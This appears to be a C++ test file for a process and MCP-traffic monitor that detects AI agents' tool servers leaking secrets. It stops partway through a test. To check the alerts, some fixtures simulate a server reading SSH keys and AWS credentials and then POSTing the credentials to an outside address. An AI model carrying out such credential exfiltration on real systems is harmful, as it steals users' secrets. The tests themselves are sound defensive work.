// The pipeline on recorded input: watch decisions, enrichment, numbering,
// loss marking, and that a trace replays to the same stream.
#include "pipeline/pipeline.h"

#include <sys/stat.h>
#include <unistd.h>

#include <chrono>
#include <map>
#include <mutex>
#include <set>
#include <thread>
#include <tuple>

#include <re2/re2.h>

#include <gtest/gtest.h>

#include "detect/rules.h"
#include "events.h"
#include "pipeline/trace_file.h"
#include "testing/events.h"

namespace agentwatch {
namespace {

class FakeSink : public WatchSink {
 public:
  bool Watch(uint32_t pid, uint32_t flags) override {
    calls.emplace_back(pid, flags);
    return true;
  }
  bool WatchExecutables(const std::vector<std::string>& paths,
                        uint32_t) override {
    exes = paths;
    return true;
  }
  std::vector<std::string> exes;
  std::vector<std::pair<uint32_t, uint32_t>> calls;
};

// Waits (up to 5 s) until p has processed n events.
void WaitProcessed(const Pipeline& p, uint64_t n) {
  for (int i = 0; i < 5000 && p.processed() < n; ++i)
    std::this_thread::sleep_for(std::chrono::milliseconds(1));
}

// Runs p on a thread of its own until it has processed n events (or 5 s
// passed), then stops it.
void RunThrough(Pipeline& p, uint64_t n) {
  std::thread t([&] { p.Run(); });
  WaitProcessed(p, n);
  p.Stop();
  t.join();
}

// Where the first event of pid of type is in out; out.size() if none.
size_t IndexOf(const std::vector<v1::Event>& out, uint32_t pid, v1::EventType type) {
  for (size_t i = 0; i < out.size(); ++i)
    if (out[i].process().pid() == pid && out[i].type() == type) return i;
  return out.size();
}

std::vector<v1::Event> Workload() {
  std::vector<v1::Event> evs;
  uint64_t t = 1000;
  // By `pid` (and its main thread), 1000 ns after the previous event.
  auto stamp = [&](events::EventBuilder b, uint32_t pid) -> v1::Event {
    t += 1000;
    return b.At(t, 1700000000000000000 + t).Pid(pid).Tid(pid);
  };
  evs.push_back(stamp(events::Snapshot("/sbin/init"), 1));
  evs.push_back(stamp(events::Snapshot("/bin/bash").Ppid(1), 50));
  evs.push_back(stamp(events::Fork(100), 50));
  const std::string server =
      "/app/node_modules/@modelcontextprotocol/server-filesystem/dist/index.js";
  evs.push_back(stamp(events::Exec("/usr/bin/node", {"node", server}).Ppid(50), 100));
  evs.push_back(stamp(events::Fork(101).Watched().ChildWatched(), 100));
  evs.push_back(stamp(events::FileOpen("/home/u/.ssh/id_rsa").Watched(), 101));
  evs.push_back(stamp(events::Loss(3), 0));
  evs.push_back(stamp(events::Exit(), 101));
  return evs;
}

std::vector<std::string> RunAll(const std::vector<v1::Event>& in, WatchSink* sink) {
  std::vector<std::string> out;
  Pipeline p(Pipeline::Options{}, sink,
             [&](const v1::Event& ev, const std::vector<uint32_t>&) {
               out.push_back(ev.SerializeAsString());
             });
  p.SetWatchRules(BuiltinWatchRules(), {});
  for (const auto& e : in) p.Process(e);
  return out;
}

TEST(PipelineTest, WatchesMatchingExecAndEnriches) {
  FakeSink sink;
  std::vector<v1::Event> out;
  Pipeline p(Pipeline::Options{}, &sink,
             [&](const v1::Event& ev, const std::vector<uint32_t>&) {
               out.push_back(ev);
             });
  p.SetWatchRules(BuiltinWatchRules(), {});
  for (const auto& e : Workload()) p.Process(e);
  ASSERT_EQ(sink.calls.size(), 1u);
  EXPECT_EQ(sink.calls[0].first, 100u);
  EXPECT_EQ(sink.calls[0].second, uint32_t{AW_WATCH_ON | AW_WATCH_INHERIT});
  ASSERT_EQ(out.size(), Workload().size());
  for (size_t i = 0; i < out.size(); ++i) EXPECT_EQ(out[i].seq(), i + 1);
  const v1::Event& exec = out[3];
  EXPECT_TRUE(exec.process().watched());
  EXPECT_EQ(std::vector<uint32_t>(exec.exec().ancestry().begin(),
                                  exec.exec().ancestry().end()),
            (std::vector<uint32_t>{50, 1}));
  const v1::Event& open = out[5];
  EXPECT_EQ(open.process().exe(), "/usr/bin/node");  // inherited at fork
  EXPECT_EQ(open.process().ppid(), 100u);
  EXPECT_TRUE(open.process().watched());
  EXPECT_EQ(out[6].type(), v1::EVENT_TYPE_LOSS);
  // The watched count is refreshed once a second of kernel time.
  const uint64_t later = out.back().ktime_ns() + 2000000000ull;
  p.Process(events::Event(v1::EVENT_TYPE_EXEC).Ktime(later).Pid(7));
  EXPECT_EQ(p.watched(), 1u);  // 101 exited, 100 remains
}

TEST(PipelineTest, ExistingTreeIsWatchedWhenRulesArrive) {
  FakeSink sink;
  Pipeline p(Pipeline::Options{}, &sink, nullptr);
  auto evs = Workload();
  // Snapshots of a server and its child, then the rules.
  v1::Event server = evs[3];
  server.set_type(v1::EVENT_TYPE_PROCESS_SNAPSHOT);
  v1::Event child = events::Snapshot("/bin/sh").Pid(101).Ppid(100);
  p.Process(evs[0]);
  p.Process(evs[1]);
  p.Process(child);   // child first: its parent is not known yet
  p.Process(server);
  p.SetWatchRules(BuiltinWatchRules(), {});
  p.Process(evs[6]);  // any event applies pending rules
  ASSERT_EQ(sink.calls.size(), 2u);
  EXPECT_EQ(sink.calls[0].first, 100u);  // parent before child
  EXPECT_EQ(sink.calls[1].first, 101u);
}

TEST(PipelineTest, PayloadChunksBecomeMcpMessages) {
  std::vector<v1::Event> out;
  Pipeline p(Pipeline::Options{}, nullptr,
             [&](const v1::Event& ev, const std::vector<uint32_t>&) {
               out.push_back(ev);
             });
  const std::string line =
      R"({"jsonrpc":"2.0","id":3,"method":"tools/call","params":{"name":"fetch","arguments":{"url":"https://x.test/?k=1","token":"abc123"}}})"
      "\n";
  auto chunk = [&](uint64_t off, std::string_view data) -> v1::Event {
    return events::Payload("in", 0, std::string(data))
        .Stream("pipe", 777, off)
        .Ktime(1000 + off)
        .Pid(42)
        .Watched();
  };
  p.Process(chunk(0, std::string_view(line).substr(0, 50)));
  p.Process(chunk(50, std::string_view(line).substr(50)));
  ASSERT_EQ(out.size(), 3u);  // two payload events, then the message
  EXPECT_EQ(out[0].type(), v1::EVENT_TYPE_PAYLOAD);
  EXPECT_EQ(out[2].type(), v1::EVENT_TYPE_MCP_MESSAGE);
  EXPECT_EQ(out[2].seq(), 3u);
  const auto& m = out[2].mcp();
  EXPECT_EQ(m.kind(), "request");
  EXPECT_EQ(m.method(), "tools/call");
  EXPECT_EQ(m.id(), "3");
  EXPECT_EQ(m.transport(), "stdio");
  EXPECT_EQ(m.direction(), "in");
  EXPECT_EQ(m.inode(), 777u);
  // The token is masked with its kind and a keyed fingerprint.
  std::string params = m.params();
  EXPECT_TRUE(RE2::GlobalReplace(&params, R"(\[REDACTED:secret-name:[0-9a-f]{6}\])", "[REDACTED]"))
      << params;
  EXPECT_EQ(params,
            R"({"name":"fetch","arguments":{"url":"https://x.test/?k=1","token":"[REDACTED]"}})");
  // The payload itself leaves the pipeline redacted too.
  EXPECT_EQ(out[1].payload().data().find("abc123"), std::string::npos);
  EXPECT_EQ(p.mcp_messages(), 1u);
}

// A stdio server (42) started by an agent (41): a call, the file it opens,
// then a response larger than the capture limit. The chain update follows
// the call, with its effect; the cut response ends the call as "lost".
TEST(PipelineTest, CallsBecomeChainUpdatesWithTheirEffects) {
  std::vector<v1::Event> out;
  Pipeline p(Pipeline::Options{}, nullptr,
             [&](const v1::Event& ev, const std::vector<uint32_t>&) { out.push_back(ev); });
  uint64_t t = 1000000;
  auto stamp = [&](events::EventBuilder b, uint32_t pid) -> v1::Event {
    t += 1000;
    return b.At(t, 1700000000000000000 + static_cast<int64_t>(t)).Pid(pid).Tid(pid);
  };
  auto snapshot = [&](uint32_t pid, uint32_t ppid, const char* exe) {
    p.Process(stamp(events::Snapshot(exe).Ppid(ppid), pid));
  };
  std::map<int, uint64_t> offsets;
  auto payload = [&](int fd, std::string data, uint64_t syscall_length = 0) {
    if (syscall_length == 0) syscall_length = data.size();
    const bool cut = syscall_length > data.size();
    events::EventBuilder b = events::Payload(fd == 0 ? "in" : "out", fd, std::move(data));
    b.Stream("pipe", 900 + fd, offsets[fd]).Watched();
    if (cut) b.Truncated(syscall_length);
    offsets[fd] += syscall_length;
    p.Process(stamp(b, 42));
  };
  snapshot(1, 0, "/sbin/init");
  snapshot(41, 1, "/usr/bin/agent");
  snapshot(42, 41, "/usr/bin/node");
  payload(0, R"({"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"a","version":"1"}}})" "\n");
  payload(1, R"({"jsonrpc":"2.0","id":0,"result":{"protocolVersion":"2025-06-18","capabilities":{},"serverInfo":{"name":"s","version":"1"}}})" "\n");
  payload(0, R"({"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read","arguments":{"path":"/data/a"}}})" "\n");
  p.Process(stamp(events::OpenRead("/data/a", 5), 42));
  payload(1, R"({"jsonrpc":"2.0","id":1,"result":{"content":[)", 70000);  // cut
  payload(0, R"({"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"list","arguments":{}}})" "\n");
  payload(1, R"({"jsonrpc":"2.0","id":2,"result":{"content":[]}})" "\n");

  std::vector<v1::Event> calls, updates;
  for (const auto& e : out) {
    if (e.type() == v1::EVENT_TYPE_MCP_CALL) calls.push_back(e);
    if (e.type() == v1::EVENT_TYPE_CHAIN_UPDATE) {
      updates.push_back(e);
      EXPECT_EQ(e.seq(), calls.empty() ? 0 : calls.back().seq() + 1)
          << "an update comes right after its call";
    }
  }
  ASSERT_EQ(calls.size(), 3u);
  EXPECT_EQ(calls[1].call().tool(), "read");
  EXPECT_EQ(calls[1].call().status(), "lost");
  EXPECT_EQ(calls[1].call().response_bytes(), 70000u);
  EXPECT_EQ(calls[2].call().tool(), "list");
  EXPECT_EQ(calls[2].call().status(), "ok") << "the message after the cut is decoded";
  ASSERT_EQ(updates.size(), 3u);
  const v1::ChainUpdate& u = updates[1].chain_update();
  EXPECT_EQ(u.chain().agent_pid(), 41u);
  EXPECT_EQ(u.entry().call().tool(), "read");
  ASSERT_EQ(u.entry().effects_size(), 1);
  EXPECT_EQ(u.entry().effects(0).summary(), "open /data/a O_RDONLY = 5");
  EXPECT_EQ(updates[2].chain_update().entry().effects_size(), 0);
  EXPECT_EQ(p.correlator().Chains(41, 0, 0).size(), 1u);
}

// Posture findings as the live sink reads them from /proc: a token in the
// server's environment whose value changes with each server instance.
class PostureSink : public FakeSink {
 public:
  std::vector<v1::Event> Posture(uint32_t pid, uint64_t, uint32_t agent_pid, uint64_t) override {
    asked.emplace_back(pid, agent_pid);
    std::vector<v1::Event> out;
    auto finding = [&](uint32_t who, const char* subject, const char* name, std::string fp) {
      v1::Event e;
      e.set_type(v1::EVENT_TYPE_POSTURE);
      e.set_time_unix_ns(1700000000000000000);
      e.mutable_process()->set_pid(who);
      e.mutable_process()->set_tid(who);
      v1::PostureInfo* c = e.mutable_posture();
      c->set_subject(subject);
      c->set_source("environ");
      c->set_name(name);
      c->set_kind("github-pat-classic");
      c->set_fingerprint(std::move(fp));
      out.push_back(std::move(e));
    };
    finding(pid, "server", "GITHUB_TOKEN", asked.size() == 1 ? "aaaaaa" : "bbbbbb");
    if (agent_pid != 0) finding(agent_pid, "agent", "OPENAI_API_KEY", "cccccc");
    return out;
  }
  std::vector<std::pair<uint32_t, uint32_t>> asked;
};

TEST(PipelineTest, ADiscoveredServerAndItsAgentAreAskedForStaticCredentials) {
  std::vector<v1::Event> out;
  PostureSink sink;
  Pipeline p(Pipeline::Options{}, &sink,
             [&](const v1::Event& ev, const std::vector<uint32_t>&) { out.push_back(ev); });
  RuleSet rules;
  ASSERT_EQ(LoadRules("", &rules), "");
  ASSERT_EQ(p.SetDetectionRules(rules), "");
  uint64_t t = 1000000;
  auto stamp = [&](events::EventBuilder b, uint32_t pid) -> v1::Event {
    t += 1000;
    return b.At(t, 1700000000000000000 + static_cast<int64_t>(t)).Pid(pid).Tid(pid);
  };
  std::map<std::pair<uint32_t, int>, uint64_t> offsets;
  auto initialize = [&](uint32_t pid) {
    events::EventBuilder b = events::Payload(
        "in", 0,
        R"({"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"a","version":"1"}}})" "\n");
    b.Stream("pipe", 900 + pid, offsets[{pid, 0}]).Watched();
    p.Process(stamp(b, pid));
  };
  p.Process(stamp(events::Snapshot("/sbin/init"), 1));
  p.Process(stamp(events::Snapshot("/usr/bin/agent").Ppid(1), 41));
  p.Process(stamp(events::Snapshot("/bin/sh").Ppid(41), 45));  // a launcher, skipped
  p.Process(stamp(events::Snapshot("/usr/bin/node").Ppid(45), 42));
  p.Process(stamp(events::Snapshot("/usr/bin/node").Ppid(41), 43));
  initialize(42);
  initialize(42);  // the same instance: asked once
  initialize(43);  // another server of the same agent: the agent is not asked again
  ASSERT_EQ(sink.asked.size(), 2u);
  EXPECT_EQ(sink.asked[0], std::make_pair(42u, 41u));
  EXPECT_EQ(sink.asked[1], std::make_pair(43u, 0u));
  std::vector<v1::Event> posture, alerts;
  for (const auto& e : out) {
    if (e.type() == v1::EVENT_TYPE_POSTURE) posture.push_back(e);
    if (e.type() == v1::EVENT_TYPE_ALERT && e.alert().rule_id() == "static-credential")
      alerts.push_back(e);
  }
  ASSERT_EQ(posture.size(), 3u);
  EXPECT_EQ(posture[0].process().exe(), "/usr/bin/node") << "annotated from the table";
  EXPECT_EQ(posture[0].posture().previous_fingerprint(), "");
  // The same exe's GITHUB_TOKEN with another value: rotated.
  EXPECT_EQ(posture[2].process().pid(), 43u);
  EXPECT_EQ(posture[2].posture().previous_fingerprint(), "aaaaaa");
  ASSERT_EQ(alerts.size(), 3u);
  EXPECT_EQ(alerts[0].alert().severity(), "medium");
  EXPECT_NE(alerts[0].alert().summary().find("GITHUB_TOKEN"), std::string::npos)
      << alerts[0].alert().summary() << "\n" << alerts[0].DebugString();
  EXPECT_EQ(alerts[1].alert().agent_pid(), 41u);
  EXPECT_EQ(p.posture_findings(), 3u);
}

TEST(PipelineTest, BytesSentOutsideAreInspectedBeforeTheyAreCut) {
  std::vector<v1::Event> out;
  Pipeline p(Pipeline::Options{}, nullptr,
             [&](const v1::Event& ev, const std::vector<uint32_t>&) { out.push_back(ev); });
  RuleSet rules;
  ASSERT_EQ(LoadRules("", &rules), "");
  ASSERT_EQ(p.SetDetectionRules(rules), "");
  uint64_t t = 1000000;
  auto stamp = [&](events::EventBuilder b, uint32_t pid) -> v1::Event {
    t += 1000;
    return b.At(t, 1700000000000000000 + static_cast<int64_t>(t)).Pid(pid).Tid(pid);
  };
  for (auto [pid, ppid, exe] : {std::tuple{1u, 0u, "/sbin/init"}, {41u, 1u, "/usr/bin/agent"},
                                {42u, 41u, "/usr/bin/node"}}) {
    p.Process(stamp(events::Snapshot(exe).Ppid(ppid), pid));
  }
  std::map<int, uint64_t> offsets;
  auto payload = [&](int fd, const char* type, std::string data) {
    const uint64_t offset = offsets[fd];
    offsets[fd] += data.size();
    p.Process(stamp(events::Payload(fd == 0 ? "in" : "out", fd, std::move(data))
                        .Stream(type, 900 + static_cast<uint64_t>(fd), offset)
                        .Watched(),
                    42));
  };
  // A stdio server (42) of agent 41 reads a credentials file for it...
  payload(0, "pipe", R"({"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"a","version":"1"}}})" "\n");
  payload(1, "pipe", R"({"jsonrpc":"2.0","id":0,"result":{"protocolVersion":"2025-06-18","capabilities":{},"serverInfo":{"name":"s","version":"1"}}})" "\n");
  payload(0, "pipe", R"({"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read","arguments":{"path":"/home/u/.aws/credentials"}}})" "\n");
  p.Process(stamp(events::OpenRead("/home/u/.aws/credentials", 5), 42));
  const std::string creds =
      "[default]\\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\\naws_secret_access_key = "
      "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\\nregion = eu-west-1";
  payload(1, "pipe", R"({"jsonrpc":"2.0","id":1,"result":{"content":[{"type":"text","text":")" + creds + R"("}]}})" "\n");
  // ...then connects outside and posts it (fd 7, its own socket).
  p.Process(stamp(events::TcpConnect("203.0.113.9", 80).SocketInode(907), 42));
  payload(7, "socket",
          "POST /c HTTP/1.1\r\nHost: 203.0.113.9\r\nContent-Length: 140\r\n\r\n"
          "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = "
          "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\nregion = eu-west-1");
  std::set<std::string> rules_hit;
  const v1::PayloadInfo* sent = nullptr;
  for (const auto& e : out) {
    if (e.type() == v1::EVENT_TYPE_ALERT) rules_hit.insert(e.alert().rule_id());
    if (e.type() == v1::EVENT_TYPE_PAYLOAD && e.payload().fd() == 7) sent = &e.payload();
  }
  ASSERT_NE(sent, nullptr);
  EXPECT_EQ(sent->remote().address(), "203.0.113.9");
  EXPECT_TRUE(sent->secret());
  ASSERT_EQ(sent->flows_size(), 1);
  EXPECT_EQ(sent->flows(0).from_tool(), "read");
  EXPECT_EQ(sent->data().find("wJalrXUtnFEMI"), std::string::npos) << "the preview is redacted";
  EXPECT_TRUE(rules_hit.count("secret-sent-out"));
  EXPECT_TRUE(rules_hit.count("sensitive-data-sent-out")) << "the content is seen leaving";
}

// A stdio server (42) with a call pending when its response stream loses
// bytes (a process over its payload budget, a full buffer): the session
// counts the gap, the call says it was pending across one, and the
// pipeline's counters move.
TEST(PipelineTest, StreamGapsAreMarkedOnTheSessionAndItsPendingCalls) {
  std::vector<v1::Event> out;
  Pipeline p(Pipeline::Options{}, nullptr,
             [&](const v1::Event& ev, const std::vector<uint32_t>&) { out.push_back(ev); });
  uint64_t t = 1000000;
  std::map<int, uint64_t> offsets;
  auto payload = [&](int fd, std::string data, uint64_t skip_before = 0) {
    offsets[fd] += skip_before;
    events::EventBuilder b = events::Payload(fd == 0 ? "in" : "out", fd, data);
    b.Stream("pipe", 900 + fd, offsets[fd]).Watched();
    offsets[fd] += data.size();
    t += 1000;
    p.Process(b.At(t, 1700000000000000000 + static_cast<int64_t>(t)).Pid(42).Tid(42));
  };
  p.Process(events::Snapshot("/usr/bin/node").Ppid(1).Pid(42).Tid(42).At(t, 1700000000000000000));
  payload(0, R"({"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"a","version":"1"}}})" "\n");
  payload(1, R"({"jsonrpc":"2.0","id":0,"result":{"protocolVersion":"2025-06-18","capabilities":{},"serverInfo":{"name":"s","version":"1"}}})" "\n");
  payload(0, R"({"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read","arguments":{}}})" "\n");
  payload(1, R"({"jsonrpc":"2.0","id":1,"result":{"content":[]}})" "\n", 300);
  payload(0, R"({"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"list","arguments":{}}})" "\n");
  payload(1, R"({"jsonrpc":"2.0","id":2,"result":{"content":[]}})" "\n");
  std::vector<v1::McpCall> calls;
  for (const auto& e : out)
    if (e.type() == v1::EVENT_TYPE_MCP_CALL) calls.push_back(e.call());
  ASSERT_EQ(calls.size(), 3u);
  EXPECT_EQ(calls[1].tool(), "read");
  EXPECT_EQ(calls[1].status(), "ok") << "the response after the gap is still decoded";
  EXPECT_NE(calls[1].decode_note().find("stream gap while pending"), std::string::npos)
      << calls[1].decode_note();
  EXPECT_EQ(calls[2].decode_note(), "") << "a call after the gap is whole";
  auto sessions = p.mcp_tracker().Sessions("", true);
  ASSERT_EQ(sessions.size(), 1u);
  EXPECT_EQ(sessions[0].gaps(), 1u);
  EXPECT_EQ(sessions[0].gap_bytes(), 300u);
  EXPECT_EQ(p.stream_gaps(), 1u);
  EXPECT_EQ(p.stream_gap_bytes(), 300u);
}

// The kernel's exit record of a server was lost: the sweep finds it gone
// (twice in a row) and ends it with an exit marked swept, which ends its
// pending call and its session. Processes still there stay.
TEST(PipelineTest, TheSweepEndsProcessesWhoseExitWasLost) {
  Pipeline::Options o;
  o.sweep = true;
  o.sweep_alive = [](uint32_t pid) { return pid == 1 || pid == 41; };
  o.sweep_interval_ms = 20;
  std::mutex mu;
  std::vector<v1::Event> out;
  Pipeline p(o, nullptr, [&](const v1::Event& ev, const std::vector<uint32_t>&) {
    std::lock_guard<std::mutex> lock(mu);
    out.push_back(ev);
  });
  uint64_t t = 1000000, off0 = 0, off1 = 0;
  auto payload = [&](int fd, std::string data) {
    uint64_t& off = fd == 0 ? off0 : off1;
    events::EventBuilder b = events::Payload(fd == 0 ? "in" : "out", fd, data);
    b.Stream("pipe", 900 + fd, off).Watched();
    off += data.size();
    t += 1000;
    EXPECT_TRUE(p.Push(b.At(t, 1700000000000000000 + static_cast<int64_t>(t)).Pid(42).Tid(42)));
  };
  p.Push(events::Snapshot("/sbin/init").Pid(1).Tid(1).At(t, 1700000000000000000));
  p.Push(events::Snapshot("/usr/bin/agent").Ppid(1).Pid(41).Tid(41).At(t, 1700000000000000000));
  p.Push(events::Snapshot("/usr/bin/node").Ppid(41).Pid(42).Tid(42).At(t, 1700000000000000000));
  payload(0, R"({"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"a","version":"1"}}})" "\n");
  payload(1, R"({"jsonrpc":"2.0","id":0,"result":{"protocolVersion":"2025-06-18","capabilities":{},"serverInfo":{"name":"s","version":"1"}}})" "\n");
  payload(0, R"({"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read","arguments":{}}})" "\n");
  std::thread run([&] { p.Run(); });
  for (int i = 0; i < 500 && p.swept_exits() == 0; ++i)
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
  std::this_thread::sleep_for(std::chrono::milliseconds(100));  // more sweeps: no more exits
  p.Stop();
  run.join();
  EXPECT_EQ(p.swept_exits(), 1u);
  std::vector<uint32_t> exited;
  const v1::McpCall* call = nullptr;
  for (const auto& e : out) {
    if (e.type() == v1::EVENT_TYPE_EXIT) {
      exited.push_back(e.process().pid());
      EXPECT_TRUE(e.exit().swept());
    }
    if (e.type() == v1::EVENT_TYPE_MCP_CALL) call = &e.call();
  }
  EXPECT_EQ(exited, (std::vector<uint32_t>{42}));
  ASSERT_NE(call, nullptr) << "the pending call did not end";
  EXPECT_EQ(call->tool(), "read");
  EXPECT_NE(call->status(), "pending");
  auto sessions = p.mcp_tracker().Sessions("", true);
  ASSERT_EQ(sessions.size(), 1u);
  EXPECT_TRUE(sessions[0].ended());
}

TEST(PipelineTest, QueueOverflowIsCountedAndMarked) {
  Pipeline::Options o;
  o.queue_size = 4;
  std::vector<v1::Event> out;
  Pipeline p(o, nullptr, [&](const v1::Event& ev, const std::vector<uint32_t>&) {
    out.push_back(ev);
  });
  int accepted = 0;
  for (int i = 0; i < 10; ++i) {
    accepted += p.Push(events::Event(v1::EVENT_TYPE_EXEC).Pid(i + 1));
  }
  EXPECT_EQ(accepted, 4);
  EXPECT_EQ(p.queue_drops(), 6u);
  std::thread t([&] { p.Run(); });
  WaitProcessed(p, 4);
  EXPECT_TRUE(p.Push(events::Event(v1::EVENT_TYPE_EXEC).Pid(99)));
  p.Stop();
  t.join();
  ASSERT_EQ(out.size(), 6u);
  EXPECT_EQ(out[4].type(), v1::EVENT_TYPE_LOSS);
  EXPECT_EQ(out[4].lost(), 6u);
  EXPECT_EQ(out[5].process().pid(), 99u);
}

// A stop with a drain time ends on time with events still queued and says
// how many it cut; a stop without one processes them all.
TEST(PipelineTest, AStopDrainsForItsTimeThenCuts) {
  for (const bool bounded : {true, false}) {
    Pipeline::Options o;
    o.queue_size = 100;
    size_t seen = 0;
    Pipeline p(o, nullptr, [&](const v1::Event&, const std::vector<uint32_t>&) { ++seen; });
    for (int i = 0; i < 50; ++i) ASSERT_TRUE(p.Push(events::Event(v1::EVENT_TYPE_EXEC).Pid(i + 1)));
    // Stopped before the loop runs: a drain time already over cuts them all.
    if (bounded) {
      p.Stop(std::chrono::milliseconds(0));
    } else {
      p.Stop();
    }
    std::thread t([&] { p.Run(); });
    t.join();
    if (bounded) {
      EXPECT_EQ(p.cut_at_stop(), 50u);
      EXPECT_EQ(seen, 0u);
    } else {
      EXPECT_EQ(p.cut_at_stop(), 0u);
      EXPECT_EQ(seen, 50u);
    }
  }
}

TEST(PipelineTest, PayloadTakesOnlyItsShareOfTheQueue) {
  Pipeline::Options o;
  o.queue_size = 12;  // payload: 9 places at most
  std::vector<v1::Event> out;
  Pipeline p(o, nullptr, [&](const v1::Event& ev, const std::vector<uint32_t>&) {
    out.push_back(ev);
  });
  int accepted = 0;
  for (int i = 0; i < 10; ++i)
    accepted += p.Push(events::Payload("out", 1, "x").Pid(100 + i).At(1000 + i, 2000 + i));
  EXPECT_EQ(accepted, 9);
  EXPECT_EQ(p.payload_drops(), 1u);
  EXPECT_EQ(p.queue_drops(), 0u);
  // The places payload cannot take are there for everything else: the
  // LOSS mark of the dropped payload and two events.
  EXPECT_TRUE(p.Push(events::Event(v1::EVENT_TYPE_EXIT).Pid(7)));
  EXPECT_TRUE(p.Push(events::Event(v1::EVENT_TYPE_EXEC).Pid(8)));
  EXPECT_FALSE(p.Push(events::Event(v1::EVENT_TYPE_EXEC).Pid(9)));
  EXPECT_EQ(p.queue_drops(), 1u);
  std::thread t([&] { p.Run(); });
  WaitProcessed(p, 12);
  EXPECT_TRUE(p.Push(events::Event(v1::EVENT_TYPE_EXEC).Pid(10)));
  p.Stop();
  t.join();
  std::vector<uint32_t> pids;
  uint64_t lost = 0;
  for (const auto& e : out) {
    if (e.type() == v1::EVENT_TYPE_LOSS) lost += e.lost();
    if (e.type() == v1::EVENT_TYPE_EXEC || e.type() == v1::EVENT_TYPE_EXIT)
      pids.push_back(e.process().pid());
  }
  EXPECT_EQ(pids, (std::vector<uint32_t>{7, 8, 10}));
  EXPECT_EQ(lost, 2u) << "every drop is marked";
}

TEST(PipelineTest, OneProcessTakesAtMostAQuarterOfThePayloadShare) {
  Pipeline::Options o;
  o.queue_size = 64;  // payload: 48 places, 13 of one process
  Pipeline p(o, nullptr, [](const v1::Event&, const std::vector<uint32_t>&) {});
  int flooder = 0;
  for (int i = 0; i < 40; ++i) flooder += p.Push(events::Payload("out", 1, "f").Pid(7));
  EXPECT_EQ(flooder, 13);
  int other = 0;
  for (int i = 0; i < 10; ++i) other += p.Push(events::Payload("out", 1, "q").Pid(8));
  EXPECT_EQ(other, 10) << "another process's payload still gets in";
  EXPECT_EQ(p.payload_drops(), 27u);
}

TEST(PipelineTest, PayloadIsBoundedByBytesInTheQueue) {
  Pipeline::Options o;
  o.queue_size = 64;
  o.queue_payload_bytes = 3 * (1000 + 512);
  Pipeline p(o, nullptr, [](const v1::Event&, const std::vector<uint32_t>&) {});
  int accepted = 0;
  for (int i = 0; i < 10; ++i)
    accepted += p.Push(events::Payload("out", 1, std::string(1000, 'y')).Pid(7 + i));
  EXPECT_EQ(accepted, 3);
  EXPECT_EQ(p.payload_drops(), 7u);
  // One process's bytes: a quarter of the bound (its first item always).
  EXPECT_FALSE(p.Push(events::Payload("out", 1, std::string(10, 'y')).Pid(7)));
  EXPECT_TRUE(p.Push(events::Event(v1::EVENT_TYPE_EXIT).Pid(7)));
}

TEST(PipelineTest, ANeighboursBacklogDelaysOnlyItsOwnFlow) {
  Pipeline::Options o;
  o.queue_size = 4096;
  std::vector<v1::Event> out;
  Pipeline p(o, nullptr, [&](const v1::Event& ev, const std::vector<uint32_t>&) {
    out.push_back(ev);
  });
  // Another user's process queues 100 payload events, then an exec of its
  // own; root's server in another cgroup then queues a read and an exec.
  for (int i = 0; i < 100; ++i)
    ASSERT_TRUE(p.Push(events::Payload("out", 1, "n").Pid(7).Uid(65534).Cgroup(5)));
  ASSERT_TRUE(p.Push(events::Event(v1::EVENT_TYPE_EXEC).Pid(70).Ppid(7).Uid(65534).Cgroup(5)));
  ASSERT_TRUE(p.Push(events::Payload("in", 1, "r").Pid(8).Uid(0).Cgroup(9)));
  ASSERT_TRUE(p.Push(events::Event(v1::EVENT_TYPE_EXEC).Pid(80).Ppid(8).Uid(0).Cgroup(9)));
  // The same user in another cgroup (a second pod of one uid) is a flow
  // of its own too.
  ASSERT_TRUE(p.Push(events::Event(v1::EVENT_TYPE_EXEC).Pid(90).Uid(65534).Cgroup(6)));
  RunThrough(p, 104);
  auto at = [&](uint32_t pid, v1::EventType type) { return IndexOf(out, pid, type); };
  ASSERT_EQ(out.size(), 104u);
  // The three flows start level: each one's first event comes out in the
  // first round, not behind the neighbour's backlog. (How the rest
  // interleave depends on what each event cost: bounded_queue_test.)
  EXPECT_EQ(at(8, v1::EVENT_TYPE_PAYLOAD), 1u);
  EXPECT_EQ(at(90, v1::EVENT_TYPE_EXEC), 2u);
  EXPECT_LT(at(8, v1::EVENT_TYPE_PAYLOAD), at(80, v1::EVENT_TYPE_EXEC));
  // The neighbour's own exec still comes after all of its payload.
  size_t flood = 0;
  for (size_t i = 0; i < at(70, v1::EVENT_TYPE_EXEC); ++i)
    flood += out[i].process().pid() == 7;
  EXPECT_EQ(flood, 100u);
}

// A server with a backlog forks a child that runs as root (sudo, a setuid
// binary): the child's events move to root's flow, yet its exec is not
// taken before the fork that made it.
TEST(PipelineTest, AProcessThatChangesUserKeepsItsOrder) {
  Pipeline::Options o;
  o.queue_size = 4096;
  std::vector<v1::Event> out;
  Pipeline p(o, nullptr, [&](const v1::Event& ev, const std::vector<uint32_t>&) {
    out.push_back(ev);
  });
  for (int i = 0; i < 50; ++i)
    ASSERT_TRUE(p.Push(events::Payload("out", 1, "n").Pid(7).Uid(65534).Cgroup(5)));
  v1::Event fork = events::Event(v1::EVENT_TYPE_FORK).Pid(7).Uid(65534).Cgroup(5);
  fork.mutable_fork()->set_child_pid(70);
  ASSERT_TRUE(p.Push(std::move(fork)));
